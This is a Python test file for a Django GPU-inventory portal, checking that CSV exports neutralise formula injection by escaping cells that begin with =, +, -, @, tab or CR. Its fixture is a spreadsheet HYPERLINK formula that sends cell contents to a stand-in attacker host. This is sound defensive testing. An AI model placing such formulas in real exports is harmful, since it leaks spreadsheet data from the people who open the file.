"""CSV formula injection (#20 item 7): every CSV the portal writes goes through one writer that
makes a cell starting with = + - @ tab or CR plain text."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from gpus.inventory.choices import WorkloadKind
from gpus.inventory.models import Cluster, GpuWorkload
from gpus.utilization.models import GpuDevice
from gpus.web.exports import safe_cell

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("NVIDIA L40S", "NVIDIA L40S"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-1.5, -1.5),  # a number is never a formula
        (3, 3),
    ],
)
def test_safe_cell(value: object, written: object) -> None:
    assert safe_cell(value) == written


@pytest.mark.django_db
def test_an_agent_posted_formula_reaches_the_idle_csv_as_text(admin_client_, acme) -> None:
    cluster = Cluster.objects.create(name="prod")
    vm = GpuWorkload.objects.create(
        cluster=cluster, tenant=acme, kind=WorkloadKind.VM, app_kind="VMInstance", name="ws",
        gpus_per_instance=1, gpus_held=1,
    )  # fmt: skip
    GpuDevice.objects.create(
        uuid="GPU-1",
        model_name=HYPERLINK,
        hostname="@host",
        tenant=acme,
        workload=vm,
        idle_since=timezone.now() - dt.timedelta(days=2),
        busy_metric="-x",
    )
    response = admin_client_.get(reverse("gpus:util_idle") + "?format=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.getvalue().decode())))
    assert rows[0][:2] == ["uuid", "model"]
    assert rows[1][1] == "'" + HYPERLINK and rows[1][2] == "'@host" and rows[1][7] == "'-x"


def test_no_csv_is_written_past_the_one_writer() -> None:
    """A new export must use gpus.web.exports (csv_response / csv_lines), not its own writer."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if "tests" not in p.parts
        and p.name != "exports.py"
        and ("csv.writer(" in (text := p.read_text()) or "csv.DictWriter(" in text)
    ]
    assert offenders == []


def test_a_remembered_cell_is_made_safe_on_every_row() -> None:
    """csv_lines makes each distinct text cell safe once and reuses it: every row still gets
    the escaped text, numbers stay numbers, and a bool or a date is text, not a number."""
    from gpus.web.exports import csv_lines

    when = dt.datetime(2026, 1, 2, tzinfo=dt.UTC)
    rows = [[HYPERLINK, 1.5, when], [HYPERLINK, -2, when], [True, None, "-x"], [["=1"], 0, ""]]
    lines = list(csv.reader(io.StringIO("".join(csv_lines(["a", "b", "c"], rows)))))
    assert lines == [
        ["a", "b", "c"],
        ["'" + HYPERLINK, "1.5", when.isoformat()],
        ["'" + HYPERLINK, "-2", when.isoformat()],
        ["True", "", "'-x"],
        ["['=1']", "0", ""],
    ]
